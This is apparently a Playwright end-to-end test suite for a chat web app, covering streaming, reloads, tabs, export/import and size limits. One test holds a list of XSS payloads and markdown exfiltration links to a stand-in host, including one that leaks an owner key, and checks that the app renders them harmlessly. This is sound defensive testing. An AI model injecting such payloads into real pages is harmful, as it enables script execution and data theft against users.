"""What a user does in the browser: chat, watch the answer stream and the monitor, reload, reopen, stop."""

from __future__ import annotations

import asyncio
import concurrent.futures
import json
import re
import socket
import urllib.parse
import urllib.request
import uuid
from pathlib import Path

import aiohttp
from playwright.sync_api import Page, expect

from chatapp.metering import tokens
from chatapp.web.state.conversation import ConversationState


def send(page: Page, text: str) -> None:
    page.fill("#chat-input", text)
    page.keyboard.press("Enter")


def send_and_wait(page: Page, text: str) -> None:
    """Sends a message and waits until its answer has finished (its summary line appears)."""
    finished = page.locator("#messages .cf-summary")
    before = finished.count()
    send(page, text)
    expect(finished).to_have_count(before + 1, timeout=20_000)


def assistant_bubbles(page: Page):
    return page.locator("#messages .cf-assistant")


def new_chat(page: Page) -> None:
    """Starts a new chat and waits until the last one is off the screen, so counts start from zero."""
    page.locator("#new-chat").click()
    expect(assistant_bubbles(page)).to_have_count(0)


def chat_reload_and_reopen(page: Page, question: str) -> None:
    """Asks, reloads, starts a new chat, then reopens the first from the sidebar with its answer."""
    send_and_wait(page, f"/mock tokens=8 rate=200\n{question}")

    page.reload()
    page.wait_for_selector("#chat-input")
    row = page.locator("#history .history-title", has_text=question)
    expect(row).to_be_visible()

    page.locator("#new-chat").click()
    expect(page.locator("#messages")).not_to_contain_text(question)
    row.click()
    expect(page.locator("#messages")).to_contain_text(question)
    expect(assistant_bubbles(page).last).to_contain_text("word1 word2 word3 word4 word5 word6 word7 word8")


def export_json(page: Page, saved: Path) -> Path:
    """Downloads the open conversation as JSON, the file Import takes back."""
    page.locator("#export-button").click()
    with page.expect_download() as exported:
        page.get_by_role("menuitem", name="Export as JSON").click()
    exported.value.save_as(saved)
    return saved


def import_file(page: Page, chosen: Path) -> None:
    """Imports a file and waits until its upload's request has ended, as a person's next pick would: the
    browser's uploader drops a file picked while the previous upload of the same picker is still open."""
    with page.expect_response(lambda response: "/_upload" in response.url) as answered:
        page.locator("#import-upload input[type=file]").set_input_files(chosen)
    answered.value.finished()


def test_answer_streams_in_and_the_monitor_shows_measured_numbers(page: Page):
    send(page, "/mock tokens=120 rate=60\nTell me something")
    answer = assistant_bubbles(page).last
    expect(page.locator("#stop-button")).to_be_visible()
    expect(answer).to_contain_text("word10")
    partial = answer.inner_text()
    assert "word120" not in partial  # seen mid-stream: it arrives piece by piece
    expect(answer).to_contain_text("word120", timeout=15_000)
    expect(page.locator("#monitor-status")).to_have_text("done")
    expect(page.locator("#send-button")).to_be_visible()

    monitor = page.locator("#monitor")
    assert re.fullmatch(r"\d[\d,]* ms", monitor.locator("[data-stat=ttft]").inner_text())
    assert float(monitor.locator("[data-stat=tokens_per_s]").inner_text()) > 10
    expected = str(tokens.count(" ".join(f"word{i}" for i in range(1, 121)), tokens.encoding_for("mock-1")))
    assert monitor.locator("[data-stat=completion_estimated]").inner_text() == expected
    assert monitor.locator("[data-stat=completion_reported]").inner_text() == expected
    assert monitor.locator("[data-stat=cost]").inner_text() == "$0.00"
    assert "mock" in monitor.locator("[data-stat=model]").inner_text()
    events = page.locator("#event-log [data-kind]")
    kinds = [events.nth(i).get_attribute("data-kind") for i in range(events.count())]
    assert kinds[:2] == ["request_sent", "first_token"] and kinds[-1] == "finished"


def test_conversation_survives_a_reload_and_reopens_from_history(page: Page):
    chat_reload_and_reopen(page, "Remember the blue whale")


def test_stop_keeps_the_partial_answer_after_reload(page: Page):
    send(page, "/mock tokens=2000 rate=40\nA very long story")
    expect(assistant_bubbles(page).last).to_contain_text("word5")
    page.locator("#stop-button").click()
    expect(page.locator("#messages .cf-status-stopped")).to_be_visible()
    expect(page.locator("#monitor-status")).to_have_text("stopped")
    kept = assistant_bubbles(page).last.inner_text()

    page.reload()
    page.wait_for_selector("#chat-input")
    expect(page.locator("#messages .cf-status-stopped")).to_be_visible()
    assert "word2000" not in kept
    expect(assistant_bubbles(page).last).to_contain_text(kept.split("\n")[0][:40])


def test_provider_failure_shows_a_plain_message(page: Page):
    send(page, "/mock fail=server\nThis will fail")
    expect(page.locator("#notice")).to_contain_text("server error")
    expect(page.locator("#messages .cf-status-error")).to_be_visible()


def test_empty_message_is_not_sent(page: Page):
    send(page, "   ")
    expect(page.locator("#notice")).to_have_text("Type a message first.")
    expect(page.locator("#messages .cf-user")).to_have_count(0)


def test_rest_api_serves_the_same_history_with_the_owner_key(page: Page, app_url: str):
    send_and_wait(page, "/mock tokens=5 rate=200\nHello REST")
    page.locator("#settings-button").click()
    key = page.locator("#owner-key").inner_text().strip()

    request = urllib.request.Request(f"{app_url}/chats", headers={"Authorization": f"Bearer {key}"})
    with urllib.request.urlopen(request) as response:
        chats = json.load(response)["chats"]
    assert [c["title"] for c in chats] == ["Hello REST"]
    request = urllib.request.Request(
        f"{app_url}/chat/{chats[0]['id']}", headers={"Authorization": f"Bearer {key}"}
    )
    with urllib.request.urlopen(request) as response:
        messages = json.load(response)["messages"]
    assert [(m["role"], m["status"]) for m in messages] == [("user", "complete"), ("assistant", "complete")]


def test_phone_width_hides_side_panels_behind_toggles(browser, app_url):
    context = browser.new_context(viewport={"width": 390, "height": 844})
    page = context.new_page()
    page.goto(app_url)
    page.wait_for_selector("#chat-input")
    history = page.locator("#history")
    expect(history).not_to_be_in_viewport()
    page.get_by_label("Show chats").click()
    expect(history).to_be_in_viewport()
    page.locator("#new-chat").click()
    expect(history).not_to_be_in_viewport()
    send(page, "/mock tokens=5 rate=200\nsmall screen")
    expect(assistant_bubbles(page).last).to_contain_text("word5")
    context.close()


def test_finished_answer_renders_markdown(page: Page):
    send(page, "Show me some formatting")  # the mock's default answer is markdown
    answer = assistant_bubbles(page).last
    expect(answer.locator("strong")).to_have_text("mock provider")
    expect(answer.locator("li")).to_have_count(3)
    expect(answer.locator("code").first).to_be_visible()


def test_rename_and_delete_a_conversation_from_the_sidebar(page: Page):
    send_and_wait(page, "/mock tokens=3 rate=200\nTrip ideas")
    row = page.locator("#history .history-row", has_text="Trip ideas")
    row.hover()
    row.get_by_label("Rename").click()
    page.locator("input[name=title]").fill("Iceland in March")
    page.get_by_role("button", name="Save").click()
    renamed = page.locator("#history .history-row", has_text="Iceland in March")
    expect(renamed).to_be_visible()
    expect(page.locator(".chat-title")).to_have_text("Iceland in March")

    renamed.hover()
    renamed.get_by_label("Delete").click()
    page.get_by_role("alertdialog").get_by_role("button", name="Delete").click()
    expect(page.locator("#history .history-row")).to_have_count(0)
    expect(page.locator("#messages .cf-user")).to_have_count(0)
    page.reload()
    page.wait_for_selector("#chat-input")
    expect(page.locator("#history")).to_contain_text("No conversations yet.")


def test_reload_mid_answer_picks_the_stream_up_where_it_is(page: Page):
    send(page, "/mock tokens=300 rate=60\nKeep talking")
    expect(assistant_bubbles(page).last).to_contain_text("word20")
    page.reload()
    page.wait_for_selector("#chat-input")
    # The tab catches up from one snapshot, keeps streaming, and ends with the whole answer exactly once.
    expect(page.locator("#stop-button")).to_be_visible()
    answer = assistant_bubbles(page).last
    expect(answer).to_contain_text("word300", timeout=20_000)
    expect(page.locator("#monitor-status")).to_have_text("done")
    text = answer.inner_text()
    assert text.count("word20 ") == 1 and text.count("word300") == 1
    assert " ".join(f"word{i}" for i in range(1, 301)) in " ".join(text.split())


def test_shift_enter_adds_a_line_and_enter_sends(page: Page):
    page.locator("#chat-input").click()
    page.keyboard.type("/mock tokens=3 rate=200")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("second line")
    expect(page.locator("#messages .cf-user")).to_have_count(0)
    page.keyboard.press("Enter")
    expect(page.locator("#messages .cf-user .cf-plain").last).to_have_text(
        "/mock tokens=3 rate=200\nsecond line"
    )
    expect(page.locator("#chat-input")).to_have_value("")


def test_a_tool_call_shows_in_the_chat_and_the_monitor_and_survives_a_reload(page: Page):
    send(page, "/mock tool=calculator:(1299+349)*3/4 tokens=5 rate=200\nSplit the cabin cost")
    answer = assistant_bubbles(page).last
    step = answer.locator(".cf-step[data-tool=calculator]")
    expect(step).to_have_attribute("data-status", "ok")
    expect(answer).to_contain_text("word5")
    step.locator("summary").click()
    expect(step).to_contain_text("1236")
    kinds = page.locator("#event-log [data-kind]")
    expect(page.locator("#event-log [data-kind=tool_started]")).to_contain_text("calculator")
    expect(page.locator("#event-log [data-kind=tool_finished]")).to_contain_text("calculator ok")
    expect(page.locator("#monitor-status")).to_have_text("done")
    live_kinds = [kinds.nth(i).get_attribute("data-kind") for i in range(kinds.count())]

    page.reload()
    page.wait_for_selector("#chat-input")
    answer = assistant_bubbles(page).last
    expect(answer.locator(".cf-step[data-tool=calculator]")).to_have_attribute("data-status", "ok")
    expect(answer).to_contain_text("1236")  # the final text quotes the tool's result
    kinds = page.locator("#event-log [data-kind]")
    expect(kinds).to_have_count(len(live_kinds))
    assert [kinds.nth(i).get_attribute("data-kind") for i in range(kinds.count())] == live_kinds


def test_clicking_an_event_scrolls_the_chat_to_its_message(page: Page):
    send_and_wait(page, "/mock tokens=5 rate=200\nThe first question")
    for i in range(4):
        send_and_wait(page, f"/mock tokens=150 rate=2000\nFiller {i}")
    first_answer = page.locator("#messages .cf-row-assistant").first
    expect(first_answer).not_to_be_in_viewport()

    page.locator("#event-log [data-kind=finished]").first.click()
    expect(first_answer).to_be_in_viewport()
    expect(first_answer).to_have_class(re.compile("cf-flash"))


def test_an_answers_summary_line_opens_its_numbers_in_the_monitor(page: Page):
    send_and_wait(page, "/mock tokens=5 rate=200\nOne")
    send_and_wait(page, "/mock tokens=60 rate=2000\nTwo")
    expect(page.locator("#monitor-status")).to_have_text("done")
    latest = page.locator("[data-stat=completion_reported]").inner_text()

    assistant_bubbles(page).first.locator(".cf-summary").click()
    expect(page.locator("#monitor")).to_contain_text("Answer of")
    expect(page.locator("[data-stat=completion_reported]")).not_to_have_text(latest)


def test_session_tab_shows_totals_and_per_model_statistics(page: Page):
    send_and_wait(page, "/mock tokens=5 rate=200\nCount me")
    page.locator("#session-tab").click()
    expect(page.locator("[data-stat=session_answers]")).to_have_text("1")
    expect(page.locator("#model-stats")).to_contain_text("mock-1")
    send(page, "/mock fail=server\nBreak")
    expect(page.locator("[data-stat=session_errors]")).to_have_text("1")
    expect(page.locator("[data-stat=session_answers]")).to_have_text("2")


# Known XSS and exfiltration tricks. `/mock echo` streams them back word by word, so the ones with spaces
# arrive split across chunks and the others whole.
HOSTILE = """/mock echo rate=400
<script>window.__xss = 'script'</script>
<img/src=x/onerror=window.__xss='img'>
<img src="x" onerror="window.__xss = 'img-split'">
<svg/onload=window.__xss='svg'>
[click me](javascript:window.__xss='link')
[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[protocol relative](//exfil.example/steal)
![leak](http://exfil.example/collect?secret=owner-key)
<iframe src="javascript:window.__xss='iframe'"></iframe>
<a href="http://exfil.example/x" onclick="window.__xss='onclick'">raw anchor</a>

[a fine link](https://example.org/page)
"""


def test_hostile_markdown_is_shown_not_executed_and_nothing_leaves_for_another_origin(
    page: Page, app_url: str
):
    own_origin = app_url.split("//", 1)[1]
    elsewhere: list[str] = []
    page.context.on("request", lambda r: elsewhere.append(r.url) if own_origin not in r.url else None)

    send_and_wait(page, HOSTILE)
    answer = assistant_bubbles(page).last
    for element in answer.locator("a").all():  # clicking anything must not run code either
        element.click(modifiers=["Alt"], no_wait_after=True) if element.get_attribute(
            "href"
        ) is None else None

    assert page.evaluate("window.__xss") is None
    assert elsewhere == []
    for tag in ("script", "img", "svg", "iframe"):
        expect(answer.locator(tag)).to_have_count(0)
    expect(answer).to_contain_text("<script>window.__xss = 'script'</script>")  # raw HTML shown as text
    expect(answer).to_contain_text("[image: leak]")
    hrefs = [a.get_attribute("href") for a in answer.locator("a").all()]
    assert not any(h and (h.startswith(("javascript:", "data:", "//")) or "exfil" in h) for h in hrefs)
    fine = answer.get_by_role("link", name="a fine link")
    expect(fine).to_have_attribute("href", "https://example.org/page")
    expect(fine).to_have_attribute("rel", "noopener noreferrer")
    expect(fine).to_have_attribute("target", "_blank")


CODE_ANSWER = """/mock echo rate=400
Here is the function:

```python
def add(a, b):
    return a + b  # sum
```
"""


def test_code_is_highlighted_and_copy_buttons_copy_it(page: Page):
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    send_and_wait(page, CODE_ANSWER)
    answer = assistant_bubbles(page).last
    expect(answer.locator("pre code .hljs-keyword").first).to_have_text("def")

    answer.get_by_label("Copy code").click()
    expect(answer.get_by_label("Copy code")).to_have_text("Copied")
    assert page.evaluate("navigator.clipboard.readText()") == "def add(a, b):\n    return a + b  # sum\n"
    answer.get_by_label("Copy message").click()
    assert page.evaluate("navigator.clipboard.readText()").startswith("Here is the function:")


def test_keyboard_shortcuts_and_the_theme_switch(page: Page):
    page.locator("body").click()
    page.keyboard.press("/")
    expect(page.locator("#chat-input")).to_be_focused()

    send(page, "/mock tokens=2000 rate=40\nA long answer to stop")
    expect(assistant_bubbles(page).last).to_contain_text("word3")
    page.keyboard.press("Escape")
    expect(page.locator("#monitor-status")).to_have_text("stopped")

    page.keyboard.press("Control+Shift+O")
    expect(page.locator("#messages .cf-user")).to_have_count(0)

    theme = page.evaluate("document.documentElement.className")
    page.locator("#theme-button").click()
    expect(page.locator("html")).not_to_have_class(theme)


def test_edit_a_question_and_regenerate_an_answer(page: Page):
    send_and_wait(page, "/mock tokens=3 rate=200\nFirst question")
    send_and_wait(page, "/mock tokens=4 rate=200\nSecond question")

    page.locator("#messages .cf-user", has_text="First question").get_by_label("Edit message").click()
    page.locator(".cf-edit-text").fill("/mock tokens=6 rate=200\nFirst question, sharper")
    page.get_by_role("button", name="Save and resend").click()
    expect(page.locator("#messages .cf-user")).to_have_count(1)
    expect(page.locator("#messages .cf-user")).to_contain_text("First question, sharper")
    expect(assistant_bubbles(page).last).to_contain_text("word6")
    expect(page.locator("#monitor-status")).to_have_text("done")

    answer_row = page.locator("#messages .cf-row-assistant").last
    replaced = answer_row.get_attribute("data-message-id")
    page.get_by_label("Regenerate").click()
    expect(answer_row).not_to_have_attribute("data-message-id", replaced)
    expect(answer_row).to_contain_text("word6")
    expect(page.locator("#monitor-status")).to_have_text("done")
    expect(assistant_bubbles(page)).to_have_count(1)
    expect(page.locator("#messages .cf-summary")).to_have_count(1)
    page.reload()
    page.wait_for_selector("#chat-input")
    expect(page.locator("#messages .cf-user")).to_have_count(1)
    expect(assistant_bubbles(page)).to_have_count(1)


def test_export_as_json_and_markdown_then_import_the_json_back(page: Page, tmp_path):
    send_and_wait(page, "/mock tool=calculator:1299/4 tokens=4 rate=200\nSplit the cabin")
    page.locator("#export-button").click()
    with page.expect_download() as markdown:
        page.get_by_role("menuitem", name="Export as Markdown").click()
    text = markdown.value.path().read_text()
    assert text.startswith("# Split the cabin") and "tool `calculator`" in text

    expect(page.get_by_role("menuitem")).to_have_count(0)  # the menu closed with the first download
    saved = export_json(page, tmp_path / "chat.json")

    import_file(page, saved)
    expect(page.locator("#history .history-row", has_text="Split the cabin")).to_have_count(2)
    expect(assistant_bubbles(page)).to_have_count(1)
    expect(assistant_bubbles(page).last.locator(".cf-step[data-tool=calculator]")).to_have_attribute(
        "data-status", "ok"
    )

    (tmp_path / "bad.json").write_text("this is not an export")
    import_file(page, tmp_path / "bad.json")
    expect(page.locator("#notice")).to_contain_text("not JSON")


def test_a_file_too_large_to_import_is_turned_away_with_a_notice(page: Page, tmp_path):
    (tmp_path / "huge.json").write_bytes(b" " * 6_000_000)

    page.locator("#import-upload input[type=file]").set_input_files(tmp_path / "huge.json")

    expect(page.locator("#notice")).to_contain_text("too large to import (5 MB at most)")


def test_the_server_refuses_an_oversized_upload_before_taking_in_its_body(app_url):
    # What a script (or a tampered page) could send: 200 MB declared. The answer comes before any of it.
    host, port = urllib.parse.urlsplit(app_url).netloc.split(":")
    with socket.create_connection((host, int(port)), timeout=10) as connection:
        connection.sendall(
            b"POST /_upload HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\n"
            b"Reflex-Client-Token: any\r\nReflex-Event-Handler: any\r\nContent-Length: 200000000\r\n\r\n"
        )
        answer = connection.recv(4096).decode()

    assert answer.startswith("HTTP/1.1 413"), answer
    assert '{"error": "That file is too large to import (5 MB at most)."}' in answer


def test_a_socket_message_past_reflexs_limit_closes_that_socket_and_the_server_goes_on(app_url):
    # A script can put anything into a websocket frame; past REFLEX_SOCKET_MAX_HTTP_BUFFER_SIZE (1 MB by
    # default, far above any message the app takes) the frame is refused and the server carries on.
    async def frame(size: int) -> str:
        ws_url = app_url.replace("http", "ws", 1) + f"/_event/?EIO=4&transport=websocket&token={uuid.uuid4()}"
        event = {
            "name": f"{ConversationState.get_full_name()}.user_message",
            "payload": {"form": {"message": "x" * size}},
            "router_data": {"pathname": "/", "query": {}, "asPath": "/"},
        }
        async with aiohttp.ClientSession() as session, session.ws_connect(ws_url) as ws:
            await ws.receive(timeout=10)  # engine.io's open packet
            await ws.send_str("40/_event,")
            await ws.receive(timeout=10)  # the namespace is joined
            await ws.send_str("42/_event," + json.dumps(["event", event]))
            answer = await ws.receive(timeout=15)
            return (
                "closed" if answer.type in (aiohttp.WSMsgType.CLOSE, aiohttp.WSMsgType.CLOSED) else "answered"
            )

    def run(size: int) -> str:
        # In a thread of its own: Playwright's sync API keeps an event loop running in this one.
        with concurrent.futures.ThreadPoolExecutor(1) as pool:
            return pool.submit(asyncio.run, frame(size)).result()

    assert run(2_000_000) == "closed"
    assert run(20) == "answered"  # the next client is served as before
    with urllib.request.urlopen(app_url + "/ping", timeout=10) as ping:
        assert ping.status == 200


def test_the_message_box_stops_at_the_limit_and_says_what_a_paste_lost(page: Page):
    limit = 16_000  # CHATAPP_MAX_MESSAGE_CHARS's default
    box = page.locator("#chat-input")
    box.fill("a" * (limit - 1_000))
    expect(page.locator("#chat-length")).to_have_text(f"{limit - 1_000:,} / {limit:,} characters")

    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.evaluate("text => navigator.clipboard.writeText(text)", "b" * 1_500)
    box.focus()
    page.keyboard.press("Control+End")
    page.keyboard.press("Control+V")

    expect(page.locator("#chat-length")).to_contain_text("the last 500 pasted characters did not fit")
    assert len(box.input_value()) == limit
    box.press("Enter")  # sends what the box holds: exactly the limit, which the server takes
    expect(assistant_bubbles(page)).to_have_count(1)
    expect(page.locator("#chat-length")).to_have_count(0)


def test_a_pinned_conversation_stays_on_top(page: Page):
    send_and_wait(page, "/mock tokens=2 rate=200\nKeep this one")
    new_chat(page)
    send_and_wait(page, "/mock tokens=2 rate=200\nA newer one")
    titles = page.locator("#history .history-title")
    expect(titles.first).to_have_text("A newer one")

    row = page.locator("#history .history-row", has_text="Keep this one")
    row.hover()
    row.get_by_label("Pin").click()
    expect(titles.first).to_have_text("Keep this one")
    expect(page.locator("#history .history-heading").first).to_have_text("Pinned")
    page.reload()
    page.wait_for_selector("#chat-input")
    expect(page.locator("#history .history-title").first).to_have_text("Keep this one")


def test_file_conversations_under_categories_and_filter_by_them(page: Page):
    send_and_wait(page, "/mock tokens=2 rate=200\nFlights to Lisbon")
    new_chat(page)
    send_and_wait(page, "/mock tokens=2 rate=200\nQuarterly budget")

    row = page.locator("#history .history-row", has_text="Flights to Lisbon")
    row.hover()
    row.get_by_label("Category").click()
    page.locator("input[name=category]").fill("Travel")
    page.get_by_role("button", name="File", exact=True).click()

    page.locator("#category-filter").click()
    page.get_by_role("option", name="Travel").click()
    expect(page.locator("#history .history-title")).to_have_count(1)
    expect(page.locator("#history .history-title")).to_have_text("Flights to Lisbon")

    page.get_by_label("Manage categories").click()
    page.locator("input[name=name]").fill("Holidays")
    page.get_by_role("button", name="Rename").click()
    expect(page.locator("#category-filter")).to_have_text("Holidays")
    page.get_by_role("button", name="Delete").click()
    page.get_by_role("button", name="Close").click()
    expect(page.locator("#history .history-title")).to_have_count(2)  # back to all, nothing lost


def test_search_finds_a_message_and_opening_it_shows_that_message(page: Page):
    send_and_wait(page, "/mock echo rate=400\nThe puffins nest on the cliffs of Látrabjarg.")
    for i in range(3):
        send_and_wait(page, f"/mock tokens=150 rate=2000\nFiller {i}")
    new_chat(page)
    send_and_wait(page, "/mock tokens=3 rate=200\nSomething else entirely")

    page.locator("#history-search").fill("puffins cliffs")
    result = page.locator("#search-results .search-result")
    expect(result).to_have_count(1)
    expect(result).to_contain_text("puffins nest on the cliffs")
    result.click()

    target = page.locator("#messages .cf-row-assistant", has_text="Látrabjarg").first
    expect(target).to_be_in_viewport()
    expect(target).to_have_class(re.compile("cf-flash"))
    page.locator("#history-search").fill("")
    expect(page.locator("#history .history-title")).to_have_count(2)


def second_tab_on(page: Page, question: str) -> Page:
    """Another tab of the same browser (same owner key), opening the conversation from its sidebar."""
    other = page.context.new_page()
    other.goto(page.url)
    other.wait_for_selector("#chat-input")
    other.locator("#history .history-title", has_text=question).click()
    return other


def test_a_second_tab_follows_an_answer_live_to_the_same_end(page: Page):
    """Asks in one tab and opens the conversation in another mid-answer: both end with the whole answer."""
    question = "Two tabs, one answer"
    send(page, f"/mock tokens=300 rate=60\n{question}")
    expect(assistant_bubbles(page).last).to_contain_text("word20")

    other = second_tab_on(page, question)
    expect(other.locator("#stop-button")).to_be_visible()  # it knows the answer is still coming
    words = " ".join(f"word{i}" for i in range(1, 301))
    for tab in (other, page):
        expect(assistant_bubbles(tab).last).to_contain_text("word300", timeout=20_000)
        expect(tab.locator("#monitor-status")).to_have_text("done")
        assert " ".join(assistant_bubbles(tab).last.inner_text().split()).count(words) == 1


def test_stop_in_another_tab_stops_the_answer_everywhere(page: Page):
    question = "Stop me from elsewhere"
    send(page, f"/mock tokens=2000 rate=40\n{question}")
    expect(assistant_bubbles(page).last).to_contain_text("word5")

    other = second_tab_on(page, question)
    other.locator("#stop-button").click()
    for tab in (page, other):
        expect(tab.locator("#messages .cf-status-stopped")).to_be_visible()
        expect(tab.locator("#monitor-status")).to_have_text("stopped")
    assert "word2000" not in assistant_bubbles(page).last.inner_text()


def come_back_to(tab: Page) -> None:
    """The user switches to this tab. Headless Chromium moves no focus between pages, so the window gets
    the focus event a desktop browser would send."""
    tab.bring_to_front()
    tab.evaluate("window.dispatchEvent(new Event('focus'))")


def test_a_tab_coming_back_catches_up_with_another_tab(page: Page):
    """A tab left open on a conversation, while another tab asks in it: coming back, it shows the answer
    streaming and lists what else was started meanwhile."""
    question = "Left open in a tab"
    send_and_wait(page, f"/mock tokens=3 rate=200\n{question}")
    other = second_tab_on(page, question)
    expect(assistant_bubbles(other)).to_have_count(1)

    come_back_to(page)
    send(page, "/mock tokens=300 rate=60\nAnd a longer answer, please")
    expect(assistant_bubbles(page).last).to_contain_text("word20")
    come_back_to(other)
    expect(assistant_bubbles(other)).to_have_count(2)
    expect(other.locator("#stop-button")).to_be_visible()  # it follows the answer still coming
    expect(assistant_bubbles(other).last).to_contain_text("word300", timeout=20_000)
    assert assistant_bubbles(other).last.inner_text() == assistant_bubbles(page).last.inner_text()

    come_back_to(page)
    new_chat(page)
    send_and_wait(page, f"/mock tokens=3 rate=200\nElsewhere: {question}")
    come_back_to(other)
    expect(other.locator("#history .history-title", has_text=f"Elsewhere: {question}")).to_be_visible()
